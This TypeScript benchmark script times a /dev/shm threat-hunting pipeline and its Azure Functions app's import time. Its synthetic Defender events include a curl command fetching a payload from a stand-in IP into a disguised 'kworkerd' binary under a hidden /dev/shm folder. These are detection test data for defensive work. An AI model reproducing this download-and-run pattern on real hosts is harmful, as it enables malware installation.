/**
 * `npm run bench:hunt`: the hunt from query result to verdict and alert, and the Functions app's import time.
 * Not part of `npm test`.
 *
 *   npm run bench:hunt [-- --rows 10000 --rounds 3 --imports 7 --only gate/memory,no-gate/memory]
 *
 * `--only` runs the variants named (those the summary needs that were not run print as n/a) and skips the import
 * timing: for a quick look on a busy machine. `--rounds` runs every variant that many times, the variants
 * interleaved (as bench:scan does with its tools), and reports each variant's best round (the table) with the median
 * of its rounds beside it: on a shared VM one run's figure swings by a third from minute to minute.
 *
 * 1. Pipeline. A generated local workspace holds matching events for every plan (DeviceProcessEvents for the
 *    shm-execution revisions, DeviceFileEvents for shm-creation), `rows` result rows in all (default 10,000; each
 *    plan gets rows / plans, rounded up) in the window, over 64 samples
 *    whose verdicts are stored (half match, half clean). The real plans (rules/ + kql/ on the defender target,
 *    max_signals lifted so every row is acted on) run through runHunts with the local workspace engine and local
 *    incidents, each variant in a fresh child process (its own peak RSS), started after a `sync` (runChild):
 *      - gate/file: the rules' own gates (annotate, require): a verdict lookup per row, then alert or benign;
 *        state in local files under os.tmpdir() (SHMHUNT_BENCH_TMP to move it, e.g. to /dev/shm);
 *      - no-gate/file (peer): the same with `sample_gate.mode = none`: alert on behaviour, no verdict lookup;
 *      - gate/memory, no-gate/memory: the same with an in-memory state store, i.e. the pipeline without file I/O;
 *      - gate/table: state in Azure Table (Azurite, started by the child), every request counted; local incidents
 *        go to a table of their own (counted apart), as the deployed app sends incidents to Sentinel instead;
 *      - gate/memory+warm, gate/file+warm: the same as gate/memory and gate/file in a process that ran the pipeline
 *        once before, over another workspace (WARMUP_ROWS_PER_PLAN rows a plan) and a state of its own of the same
 *        kind: a long-lived process's later runs (the Functions app's timer ticks), where the others are a fresh
 *        process's first run (the CLI's `hunt`). The query alone is measured warm in every variant (after a first
 *        query), so these are the pipeline figures measured like their peer.
 *    Reported: the query alone (engine rows/s), the whole run (rows/s from query result to alert, query included),
 *    the part after the query, peak RSS, RSS with the query results in hand and the run's peak over it (the results
 *    dropped and collected first: the run makes its own), the minor
 *    page faults of the run (memory touched for the first time, costly on a VM); the peak over the results
 *    also for gate/memory and gate/file at SCALE times the rows (one run each). The file state is then opened again
 *    (timeReopen) and its hit records read back, listed and READ_BACK of them one at a time.
 * 2. Import. `npm run build`, then the median wall time of `node -e "import('./dist/functions/index.js')"` against
 *    a bare @azure/functions app registering one HTTP function (peer), and `node -e 0`.
 */
import { spawnSync } from "node:child_process";
import {
  closeSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  readdirSync,
  readSync,
  rmSync,
  statSync,
  writeFileSync,
} from "node:fs";
import os from "node:os";
import path from "node:path";
import { fileURLToPath } from "node:url";
import { crc32 } from "node:zlib";
import { exclusionWatchlists, LocalWorkspaceQueryRunner } from "../src/app/local-queries.js";
import { kqlFilePlans } from "../src/app/plans.js";
import { HuntState } from "../src/hunt/hunt-state.js";
import { LocalAlertWriter } from "../src/hunt/local-alerts.js";
import { runHunts } from "../src/hunt/run.js";
import type { HuntPlan, StoredVerdict } from "../src/hunt/types.js";
import { loadRules } from "../src/rules/loader.js";
import type { QueryRunner } from "../src/sentinel/logs-query.js";
import { MemoryStateStore } from "../src/store/memory-state-store.js";
import { createStateStore } from "../src/store/storage-clients.js";
import { TableStateStore } from "../src/store/table-state-store.js";
import { startAzurite } from "../test/support/azurite.js";
import { loadAverages } from "./machine-load.js";

const repoRoot = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "..");
const args = process.argv.slice(2);
const option = (name: string, fallback: number) => {
  const i = args.indexOf(name);
  const value = i >= 0 ? Number(args[i + 1]) : Number.NaN;
  return Number.isFinite(value) && value > 0 ? value : fallback;
};
const rows = option("--rows", 10_000);
const rounds = Math.floor(option("--rounds", 3));
const importRuns = option("--imports", 7);
const SAMPLES = 64;
const MIN = 60_000;

/**
 * The gate on or off (peer), with the local file state store or an in-memory one (the pipeline without I/O); `+warm`:
 * measured after a first run of the pipeline in the same process.
 */
type Variant =
  | "gate/file"
  | "no-gate/file"
  | "gate/memory"
  | "no-gate/memory"
  | "gate/table"
  | "gate/memory+warm"
  | "gate/file+warm";
const ALL_VARIANTS: readonly Variant[] = [
  "gate/file",
  "no-gate/file",
  "gate/memory",
  "no-gate/memory",
  "gate/table",
  "gate/memory+warm",
  "gate/file+warm",
];
/** The memory figure is taken again at this many times the rows. */
const SCALE = 4;
/** Result rows of each plan in the warm variants' first run (over a workspace and a state of its own). */
const WARMUP_ROWS_PER_PLAN = 1000;
const only = args.includes("--only") ? (args[args.indexOf("--only") + 1] ?? "").split(",") : undefined;
const VARIANTS = ALL_VARIANTS.filter((v) => only === undefined || only.includes(v));

interface ChildReport {
  readonly variant: Variant;
  readonly rows: number;
  /** The query alone, before the run (warm). */
  readonly querySeconds: number;
  readonly runSeconds: number;
  /** Of the run: wall time spent in its own queries, and the rest (the pipeline from query result to alert). */
  readonly runQuerySeconds: number;
  readonly pipelineSeconds: number;
  /** CPU time (user + system) of the pipeline part of the run: less sensitive to a loaded machine than wall time. */
  readonly pipelineCpuSeconds: number;
  readonly alerted: number;
  readonly benign: number;
  readonly peakRssMiB: number;
  /** RSS with the query results in hand (before the run), and the run's peak over it. */
  readonly queryRssMiB: number;
  readonly runPeakOverQueryMiB: number;
  /**
   * Minor page faults during the run: memory the process touched for the first time, which is costly on a VM (in a
   * plain test on the project's VM, 32 fresh MiB, 8,192 faults, took ~95 ms to fill; the same MiB again ~4 ms).
   */
  readonly pageFaults: number;
  /** The JS heap in use after the run and two full GCs: what the run leaves live (the state it holds, caches). */
  readonly heapAfterRunMiB: number;
  /** Azure Table variant: requests to the state table, and to the (separate) table of local incidents. */
  readonly stateRequests?: number;
  readonly incidentRequests?: number;
  /** Local file state: opening it again after the run (see `timeReopen`). */
  readonly reopen?: Reopen;
}

/** A TableStateStore on Azurite whose requests are counted (the client's pipeline sees each HTTP request). */
async function countedTable(connectionString: string, table: string) {
  const { TableClient } = await import("@azure/data-tables");
  const client = TableClient.fromConnectionString(connectionString, table, { allowInsecureConnection: true });
  const counter = { requests: 0 };
  client.pipeline.addPolicy({
    name: "count-requests",
    sendRequest: (request, next) => {
      counter.requests++;
      return next(request);
    },
  });
  return { store: new TableStateStore(client), counter };
}

const sha = (i: number) => (i % SAMPLES).toString(16).padStart(2, "0").repeat(32);

/** N matching events per seed rule, spread over the last 8 minutes before `now`. */
function writeWorkspace(dir: string, n: number, now: number): void {
  mkdirSync(dir, { recursive: true });
  const time = (i: number) => new Date(now - MIN - Math.floor((i * 7 * MIN) / n)).toISOString();
  const base = (i: number) => ({
    Timestamp: time(i),
    TimeGenerated: time(i),
    DeviceId: `dev${i % 50}`,
    DeviceName: `host-${i % 50}`,
    ReportId: i,
    SHA256: sha(i),
  });
  const processes: string[] = [];
  const files: string[] = [];
  for (let i = 0; i < n; i++) {
    processes.push(
      JSON.stringify({
        ...base(i),
        ActionType: "ProcessCreated",
        AccountName: "root",
        FolderPath: `/dev/shm/.x${i}/kworkerd`,
        FileName: "kworkerd",
        ProcessId: 10_000 + i,
        ProcessCommandLine: `/dev/shm/.x${i}/kworkerd -d`,
        InitiatingProcessCommandLine: "-bash",
      }),
    );
    files.push(
      JSON.stringify({
        ...base(i),
        ActionType: "FileCreated",
        FolderPath: `/dev/shm/.x${i}/kworkerd`,
        FileName: "kworkerd",
        InitiatingProcessFileName: "curl",
        InitiatingProcessId: 20_000 + i,
        InitiatingProcessAccountName: "root",
        InitiatingProcessCommandLine: "curl -so kworkerd http://203.0.113.7/k",
      }),
    );
  }
  writeFileSync(path.join(dir, "DeviceProcessEvents.ndjson"), `${processes.join("\n")}\n`);
  writeFileSync(path.join(dir, "DeviceFileEvents.ndjson"), `${files.join("\n")}\n`);
}

/** One variant, in this (child) process: fresh state, stored verdicts, one forced run of every plan. */
async function child(variant: Variant, n: number): Promise<ChildReport> {
  let cleanup: (() => Promise<void> | undefined) | undefined;
  const dir = mkdtempSync(
    path.join(process.env.SHMHUNT_BENCH_TMP ?? os.tmpdir(), `shmhunt-bench-hunt-${variant.replace(/[/+]/g, "-")}-`),
  );
  const warm = variant.endsWith("+warm");
  const inMemory = variant.includes("/memory");
  /** A fresh state store of the variant's kind (local files: in `name` under the variant's folder). */
  const stateStore = async (name: string) =>
    inMemory ? new MemoryStateStore() : await createStateStore({ kind: "local", dir: path.join(dir, name) });
  try {
    const now = Date.now();
    const rulesDir = path.join(repoRoot, "rules");
    const planned = await kqlFilePlans(rulesDir, path.join(repoRoot, "kql"), ["defender"]);
    const perPlan = Math.ceil(n / planned.length);
    const workspaceDir = path.join(dir, "workspace");
    writeWorkspace(workspaceDir, perPlan, now);
    const azurite = variant.endsWith("/table") ? await startAzurite() : undefined;
    cleanup = () => azurite?.stop();
    const tableState = azurite ? await countedTable(azurite.connectionString, "benchstate") : undefined;
    const tableIncidents = azurite ? await countedTable(azurite.connectionString, "benchincidents") : undefined;
    const state = new HuntState(tableState ? tableState.store : await stateStore("state"));
    // Local incidents: in the state itself, except on Table, where they get a table (and a count) of their own,
    // as the deployed app sends them to Sentinel, not to its state table.
    const alerts = new LocalAlertWriter(tableIncidents ? new HuntState(tableIncidents.store) : state);
    const plans: HuntPlan[] = planned.map((p) => ({
      ...p,
      rule: {
        ...p.rule,
        maxSignals: Number.MAX_SAFE_INTEGER,
        ...(variant.startsWith("no-gate") ? { gate: { ...p.rule.gate, mode: "none" as const } } : {}),
      },
    }));
    const gateRule = plans.find((p) => p.rule.gate.yaraRules.length > 0)?.rule.gate.yaraRules[0] ?? "any";
    const storeVerdicts = async (into: HuntState) => {
      for (let i = 0; i < SAMPLES; i++) {
        const verdict: StoredVerdict = {
          sha256: sha(i),
          size: 16_000,
          matches: i % 2 === 0 ? [{ rule: gateRule }] : [],
          scannedAt: new Date(now).toISOString(),
        };
        await into.putVerdict(verdict);
      }
    };
    await storeVerdicts(state);
    const watchlists = exclusionWatchlists((await loadRules(rulesDir)).rules);
    const queries = new LocalWorkspaceQueryRunner(workspaceDir, async () => watchlists);
    const window = { start: new Date(now - 9 * MIN), end: new Date(now) };
    if (warm) {
      // A first run over a workspace and a state of their own: what the measured run finds warm is the code.
      const warmupDir = path.join(dir, "warmup-workspace");
      writeWorkspace(warmupDir, WARMUP_ROWS_PER_PLAN, now);
      const warmupState = new HuntState(await stateStore("warmup-state"));
      await storeVerdicts(warmupState);
      const warmup = await runHunts(
        plans,
        {
          state: warmupState,
          queries: new LocalWorkspaceQueryRunner(warmupDir, async () => watchlists),
          alerts: new LocalAlertWriter(warmupState),
          clock: () => new Date(now),
        },
        { force: true },
      );
      if (warmup.runs.some((r) => r.status !== "completed")) throw new Error("the warm-up run failed");
    }

    let peak = process.memoryUsage().rss;
    const sampler = setInterval(() => {
      peak = Math.max(peak, process.memoryUsage().rss);
    }, 20);
    // The query alone (warm: Kusto.Language loaded by a first query), then the whole run, query included.
    await queries.run(plans[0]!.query, window);
    let started = performance.now();
    let queried = 0;
    let results: unknown[] = [];
    for (const plan of plans) {
      const outcome = await queries.run(plan.query, window);
      if (!outcome.ok) throw new Error(outcome.error);
      queried += outcome.rows.length;
      results.push(outcome.rows);
    }
    const querySeconds = (performance.now() - started) / 1000;
    const queryRss = process.memoryUsage().rss;
    // The results dropped and collected before the run, which queries again: without it the run's peak stood on the
    // first results' garbage and counted the result twice (gate/file at 40,002 rows: 174 MiB over the result, 96 with
    // the collection; 74 and 42 at 10,002; one run each, 7 December 2026).
    results = [];
    (globalThis as { gc?: () => void }).gc?.();
    peak = queryRss;
    const beforeRun = { state: tableState?.counter.requests ?? 0, incidents: tableIncidents?.counter.requests ?? 0 };
    started = performance.now();
    // The run's own queries are timed as they happen, so the pipeline's time is the run's less its queries.
    const inQueries = { seconds: 0, cpu: 0 };
    const timedQueries: QueryRunner = {
      async run(query, queryWindow) {
        const wall = performance.now();
        const cpu = process.cpuUsage();
        try {
          return await queries.run(query, queryWindow);
        } finally {
          inQueries.seconds += (performance.now() - wall) / 1000;
          const used = process.cpuUsage(cpu);
          inQueries.cpu += (used.user + used.system) / 1e6;
        }
      },
    };
    const faultsBefore = process.resourceUsage().minorPageFault;
    const cpuBefore = process.cpuUsage();
    const report = await runHunts(
      plans,
      { state, queries: timedQueries, alerts, clock: () => new Date(now) },
      { force: true },
    );
    const runSeconds = (performance.now() - started) / 1000;
    const cpuRun = process.cpuUsage(cpuBefore);
    const pageFaults = process.resourceUsage().minorPageFault - faultsBefore;
    clearInterval(sampler);
    peak = Math.max(peak, process.memoryUsage().rss);
    const failed = report.runs.filter((r) => r.status !== "completed");
    if (failed.length > 0) throw new Error(`hunt failed: ${failed.map((r) => r.error).join("; ")}`);
    const total = report.runs.reduce((sum, r) => sum + r.counts.rows, 0);
    const expected = perPlan * plans.length;
    if (total !== queried || total !== expected) throw new Error(`expected ${expected} rows, the run saw ${total}`);
    // After the timed part: what stays live once garbage is gone (the child runs with --expose-gc).
    const gc = (globalThis as { gc?: () => void }).gc;
    gc?.();
    gc?.();
    const heapAfterRunMiB = process.memoryUsage().heapUsed / 2 ** 20;
    return {
      variant,
      rows: total,
      querySeconds,
      runSeconds,
      runQuerySeconds: inQueries.seconds,
      pipelineSeconds: runSeconds - inQueries.seconds,
      pipelineCpuSeconds: (cpuRun.user + cpuRun.system) / 1e6 - inQueries.cpu,
      alerted: report.runs.reduce((sum, r) => sum + r.counts.alerted, 0),
      benign: report.runs.reduce((sum, r) => sum + r.counts.benign, 0),
      peakRssMiB: Math.max(peak, process.resourceUsage().maxRSS * 1024) / 2 ** 20,
      queryRssMiB: queryRss / 2 ** 20,
      runPeakOverQueryMiB: (peak - queryRss) / 2 ** 20,
      pageFaults,
      heapAfterRunMiB,
      ...(tableState ? { stateRequests: tableState.counter.requests - beforeRun.state } : {}),
      ...(tableIncidents ? { incidentRequests: tableIncidents.counter.requests - beforeRun.incidents } : {}),
      ...(inMemory || tableState ? {} : { reopen: await timeReopen(path.join(dir, "state")) }),
    };
  } finally {
    await cleanup?.();
    rmSync(dir, { recursive: true, force: true });
  }
}

interface Reopen {
  readonly journalBytes: number;
  /** A new store on the folder, to its first answer: every line read, checked and indexed. */
  readonly openMs: number;
  /** Peer: the journal read in 4 MiB pieces and each line's checksum checked, nothing else. */
  readonly peerMs: number;
  /** Then every hit record read back (`list`, as `GET /hits` pages through them), and how many. */
  readonly listMs: number;
  readonly hits: number;
  /** Then READ_BACK of them read one at a time (`get`, as a hit's settling or `GET /hits/{key}` does). */
  readonly getMs: number;
}

/** Hits read back one at a time after the reopen. */
const READ_BACK = 2000;

/** The local state as a process starting on it finds it (the CLI's `hunt`, a restarted server). */
async function timeReopen(stateDir: string): Promise<Reopen> {
  const journal = path.join(stateDir, readdirSync(stateDir).find((name) => /^journal\.\d+$/.test(name)) ?? "");
  let started = performance.now();
  const store = await createStateStore({ kind: "local", dir: stateDir });
  await store.get("checkpoint", "none", "none");
  const openMs = performance.now() - started;
  started = performance.now();
  const hits = await store.list("hit");
  const listMs = performance.now() - started;
  started = performance.now();
  for (const hit of hits.slice(0, READ_BACK)) await store.get("hit", hit.partition, hit.key);
  const getMs = performance.now() - started;
  await store.close?.();
  started = performance.now();
  const handle = openSync(journal, "r");
  const chunk = Buffer.allocUnsafe(4 * 2 ** 20);
  let held = 0;
  let damaged = 0;
  for (let position = 0; ; ) {
    const read = readSync(handle, chunk, held, chunk.length - held, position);
    if (read === 0) break;
    position += read;
    const data = chunk.subarray(0, held + read);
    let start = 0;
    for (let nl = data.indexOf(0x0a, held); nl >= 0; nl = data.indexOf(0x0a, start)) {
      if (crc32(data.subarray(start + 9, nl)) !== Number.parseInt(data.toString("latin1", start, start + 8), 16))
        damaged++;
      start = nl + 1;
    }
    held = data.length - start;
    chunk.copyWithin(0, start, data.length);
  }
  closeSync(handle);
  const peerMs = performance.now() - started;
  if (damaged > 0) throw new Error(`${damaged} journal lines failed their checksum`);
  return { journalBytes: statSync(journal).size, openMs, peerMs, listMs, hits: hits.length, getMs };
}

/** What `timeReopen` measured in a variant's best round (the local file state's). */
function printReopen(r: ChildReport): void {
  const reopened = r.reopen;
  if (!reopened) return;
  const oneByOne = Math.min(READ_BACK, reopened.hits);
  console.log(
    `local file state opened again after the run (${r.variant}'s best round): ${fmt(reopened.journalBytes / 1e6, 1)} MB journal read, checked and indexed in ${fmt(reopened.openMs)} ms | peer, the same file read and each line's checksum checked: ${fmt(reopened.peerMs)} ms`,
  );
  console.log(
    `  then read back: ${fmt(reopened.hits)} hit records listed in ${fmt(reopened.listMs)} ms, ${fmt(oneByOne)} read one at a time in ${fmt(reopened.getMs)} ms (${fmt((1000 * reopened.getMs) / Math.max(1, oneByOne))} µs each)`,
  );
}

function runChild(variant: Variant, resultRows = rows): ChildReport {
  // The files the last child wrote and removed (a file-state variant's journal: ~26 MB at 10,000 rows) written back
  // before this one starts, so that no variant is measured during another's writeback. Without it gate/memory, run
  // after no-gate/file, gave 40,827 and 43,438 rows/s best of 5 (25,098 and 26,151 per CPU-second); with it 46,506
  // and 46,486 (28,937 and 28,863), runs alternated (7 December 2026).
  spawnSync("sync");
  const result = spawnSync(
    process.execPath,
    [
      ...process.execArgv,
      "--expose-gc",
      fileURLToPath(import.meta.url),
      "--child",
      variant,
      "--rows",
      String(resultRows),
    ],
    { cwd: repoRoot, encoding: "utf8", maxBuffer: 16 * 2 ** 20 },
  );
  if (result.status !== 0) throw new Error(`bench child ${variant} failed: ${result.stderr}`);
  const line = result.stdout.trim().split("\n").pop() ?? "";
  return JSON.parse(line) as ChildReport;
}

function median(values: readonly number[]): number {
  const sorted = [...values].sort((a, b) => a - b);
  const mid = Math.floor(sorted.length / 2);
  return sorted.length % 2 ? sorted[mid]! : (sorted[mid - 1]! + sorted[mid]!) / 2;
}

/** Median wall time (ms) of a fresh `node -e <code>` in the repository. */
function importTime(code: string): number {
  const times: number[] = [];
  for (let i = 0; i < importRuns; i++) {
    const started = performance.now();
    const result = spawnSync(process.execPath, ["-e", code], { cwd: repoRoot, encoding: "utf8" });
    times.push(performance.now() - started);
    if (result.status !== 0) throw new Error(`node -e ${code} failed: ${result.stderr}`);
  }
  return median(times);
}

const fmt = (n: number, digits = 0) =>
  n.toLocaleString("en-US", { maximumFractionDigits: digits, minimumFractionDigits: digits });

async function main(): Promise<void> {
  const childAt = args.indexOf("--child");
  if (childAt >= 0) {
    process.stdout.write(`${JSON.stringify(await child(args[childAt + 1] as Variant, rows))}\n`);
    return;
  }

  console.log(
    `hunt pipeline: about ${fmt(rows)} result rows over the seed rules' plans (defender), ${SAMPLES} samples with stored verdicts,`,
  );
  console.log(
    `local workspace engine, local file state, local incidents; each variant in a fresh process, ${rounds} round(s), variants interleaved\n`,
  );
  /** Every round's report, by variant. */
  const runs = new Map<Variant, ChildReport[]>(VARIANTS.map((v) => [v, []]));
  for (let round = 0; round < rounds; round++) {
    console.log(`   round ${round + 1}: load average ${loadAverages()}`);
    for (const v of VARIANTS) runs.get(v)!.push(runChild(v));
  }
  console.log(`   (load average now ${loadAverages()})\n`);
  // A variant's best round (the least pipeline time after the query) stands for it; the median of its rounds beside.
  const reports = VARIANTS.map((v) =>
    runs.get(v)!.reduce((best, r) => (r.pipelineSeconds < best.pipelineSeconds ? r : best)),
  );
  const afterQueryRate = (r: ChildReport) => r.rows / Math.max(r.pipelineSeconds, 1e-9);
  const medianAfterQuery = (v: Variant) => median(runs.get(v)!.map(afterQueryRate));
  console.log(
    `${"variant (best)".padEnd(17)} ${"rows".padStart(7)} ${"alerted".padStart(8)} ${"benign".padStart(7)} ${"query s".padStart(8)} ${"query rows/s".padStart(13)} ${"run s".padStart(7)} ${"rows/s".padStart(8)} ${"after-query rows/s".padStart(19)} ${"(median)".padStart(9)} ${"peak RSS".padStart(9)} ${"RSS w/ result".padStart(13)} ${"run peak over it".padStart(16)} ${"page faults".padStart(11)}`,
  );
  for (const r of reports) {
    console.log(
      `${r.variant.padEnd(17)} ${fmt(r.rows).padStart(7)} ${fmt(r.alerted).padStart(8)} ${fmt(r.benign).padStart(7)} ${fmt(r.querySeconds, 2).padStart(8)} ${fmt(r.rows / r.querySeconds).padStart(13)} ${fmt(r.runSeconds, 2).padStart(7)} ${fmt(r.rows / r.runSeconds).padStart(8)} ${fmt(afterQueryRate(r)).padStart(19)} ${fmt(medianAfterQuery(r.variant)).padStart(9)} ${`${fmt(r.peakRssMiB)} MiB`.padStart(9)} ${`${fmt(r.queryRssMiB)} MiB`.padStart(13)} ${`${fmt(r.runPeakOverQueryMiB)} MiB`.padStart(16)} ${fmt(r.pageFaults).padStart(11)}`,
    );
  }
  const missing = ALL_VARIANTS.filter((v) => !reports.some((r) => r.variant === v));
  if (missing.length > 0) {
    console.log(`\n(only ${VARIANTS.join(", ")} run: no summary, no import timing)`);
    for (const r of reports)
      console.log(
        `  ${r.variant}: after the query ${fmt(afterQueryRate(r))} rows/s best, ${fmt(medianAfterQuery(r.variant))} median (${fmt(r.rows / Math.max(r.pipelineCpuSeconds, 1e-9))} per CPU-second) | query alone ${fmt(r.rows / r.querySeconds)} rows/s${r.stateRequests !== undefined ? ` | ${fmt(r.stateRequests)} state requests (${fmt(r.rows / Math.max(1, r.stateRequests), 1)}x fewer than rows)` : ""}`,
      );
    const file = reports.find((r) => r.variant === "gate/file");
    if (file) printReopen(file);
    return;
  }
  const report = (v: Variant) => reports.find((x) => x.variant === v)!;
  const rate = (v: Variant) => report(v).rows / report(v).runSeconds;
  // The run less the time spent in its own queries (timed in the child as they ran); CPU time beside it.
  const pipeline = (v: Variant) => report(v).rows / Math.max(report(v).pipelineSeconds, 1e-9);
  const pipelineCpu = (v: Variant) => report(v).rows / Math.max(report(v).pipelineCpuSeconds, 1e-9);
  const query = (v: Variant) => report(v).rows / report(v).querySeconds;
  console.log(
    `\nthe pipeline after the query (rows/s), best of ${rounds} with the median, beside the query alone in the best round's process (targets: issue 13):`,
  );
  const line = (label: string, v: Variant, target: string) =>
    console.log(
      `  ${label.padEnd(34)} ${fmt(pipeline(v)).padStart(7)} rows/s, median ${fmt(medianAfterQuery(v)).padStart(7)} (${fmt(pipelineCpu(v))} per CPU-second) | query alone ${fmt(query(v))} rows/s  (target >= ${target})`,
    );
  line("state in memory (gate), first run:", "gate/memory", "50,000");
  line("state in memory (gate), warm:", "gate/memory+warm", "50,000");
  line("local file state (gate), first run:", "gate/file", "20,000");
  line("local file state (gate), warm:", "gate/file+warm", "20,000");
  const table = report("gate/table");
  console.log(
    `  Azure Table (Azurite, gate): ${fmt(table.stateRequests ?? 0)} state requests for ${fmt(table.rows)} rows (${fmt(table.rows / Math.max(1, table.stateRequests ?? 0), 1)}x fewer; target >= 50x); local incidents in a table of their own: ${fmt(table.incidentRequests ?? 0)} requests; pipeline ${fmt(pipeline("gate/table"))} rows/s | query alone ${fmt(query("gate/table"))} rows/s`,
  );
  console.log(
    `\ngate / no gate (rows/s of the run): file state ${fmt(rate("gate/file") / rate("no-gate/file"), 2)}x, memory state ${fmt(rate("gate/memory") / rate("no-gate/memory"), 2)}x`,
  );
  console.log(`file state / memory state (gate): ${fmt(rate("gate/file") / rate("gate/memory"), 2)}x`);
  printReopen(report("gate/file"));

  // Memory against the number of rows: the same variants with SCALE times the rows, once each.
  console.log(
    `\nthe run's peak RSS over the RSS with its query results in hand, at ${fmt(rows)} and ${fmt(SCALE * rows)} rows (target: not growing with the rows):`,
  );
  for (const v of ["gate/memory", "gate/file"] as const) {
    const larger = runChild(v, SCALE * rows);
    console.log(
      `  ${v.padEnd(12)} ${fmt(report(v).runPeakOverQueryMiB).padStart(5)} MiB at ${fmt(report(v).rows)} rows, ${fmt(larger.runPeakOverQueryMiB).padStart(5)} MiB at ${fmt(larger.rows)} (RSS with the results ${fmt(report(v).queryRssMiB)} and ${fmt(larger.queryRssMiB)} MiB; JS heap live after the run, full GC: ${fmt(report(v).heapAfterRunMiB)} and ${fmt(larger.heapAfterRunMiB)} MiB)`,
    );
  }

  console.log("\nbuilding (npm run build) for the import timing …");
  const build = spawnSync("npm", ["run", "build"], { cwd: repoRoot, encoding: "utf8" });
  if (build.status !== 0) throw new Error(`npm run build failed: ${build.stdout}${build.stderr}`);
  const app = importTime("import('./dist/functions/index.js')");
  const bare = importTime(
    "import('@azure/functions').then(({ app }) => app.http('health', { methods: ['GET'], authLevel: 'anonymous', handler: async () => ({ body: 'ok' }) }))",
  );
  const node = importTime("0");
  console.log(`import time, median of ${importRuns} fresh processes (wall, process start included):`);
  console.log(`  dist/functions/index.js (shmhunt app)     ${fmt(app)} ms`);
  console.log(`  bare @azure/functions app (peer)          ${fmt(bare)} ms`);
  console.log(`  node -e 0                                 ${fmt(node)} ms`);
  console.log(
    `  shmhunt over the bare app: ${fmt(app / bare, 2)}x (${fmt(app - bare)} ms more); over node alone: ${fmt(app - node)} ms vs ${fmt(bare - node)} ms`,
  );
}

main().catch((error: unknown) => {
  console.error(`bench:hunt: ${error instanceof Error ? error.message : String(error)}`);
  process.exit(1);
});
